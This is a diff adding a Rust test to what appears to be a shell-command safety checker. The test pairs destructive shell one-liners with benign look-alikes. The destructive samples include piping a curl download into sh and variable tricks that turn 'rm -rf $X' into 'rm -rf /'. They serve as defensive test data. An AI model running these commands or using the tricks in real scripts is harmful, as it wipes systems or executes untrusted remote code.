@@ -41,6 +41,30 @@ fn what_may_not_have_run_leaves_no_value_behind() {
 }
 
 #[test]
+fn more_of_what_may_not_have_run() {
+    twins(&[
+        ("X=sh; false && X=cat; curl -s x.example | $X", "mkdir -p b && cd b; rm -rf foo"),
+        (
+            "X=/; f() { true && return || :; X=build; }; f; rm -rf $X",
+            "X=build; f() { true && return || :; }; f; rm -rf $X",
+        ),
+        ("X=build; let X=1; X=/; rm -rf $X", "let i=1; rm -rf build"),
+        (
+            "X=build; while :; do rm -rf \"$X\"; readonly X=/; done",
+            "i=0; while ((i < 3)); do rm -rf build; ((i++)); done",
+        ),
+        (
+            "X=build; for i in 1 2 3 4 5 6 7 8 9 $L; do rm -rf $X; X=/; done",
+            "set -e; cd \"$(dirname \"$0\")\"; mkdir -p out || exit 1; rm -rf out/*",
+        ),
+        (
+            "tmp=/; trap 'rm -rf \"$tmp\"' EXIT",
+            "tmp=$(mktemp -d) || exit 1; cleanup() { rm -rf \"$tmp\"; }; trap cleanup EXIT INT TERM; cp a \"$tmp\"",
+        ),
+    ]);
+}
+
+#[test]
 fn functions_keep_their_variables_and_branches_their_functions() {
     twins(&[
         ("X=/; f() { local X=build; }; f; rm -rf $X", "X=build; f() { local X=/; echo $X; }; f; rm -rf $X"),
